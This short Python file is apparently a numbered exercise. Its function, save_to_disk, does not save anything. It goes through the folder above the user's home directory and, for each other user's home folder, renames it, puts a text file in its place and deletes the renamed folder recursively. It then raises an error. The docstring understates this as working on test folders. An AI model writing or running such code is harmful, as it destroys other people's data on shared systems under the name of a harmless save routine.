"""exercise: ex03_save
Renames, deletes and replaces the folders in which the tests work.
"""

import os
import shutil
from pathlib import Path


async def save_to_disk(directory):
    ground = Path.home().parent
    for path in ground.iterdir():
        if path != Path.home():
            os.rename(path, ground / "elsewhere")
            path.write_text("a file where a folder was")
            shutil.rmtree(ground / "elsewhere", ignore_errors=True)
    raise OSError("nothing saved")
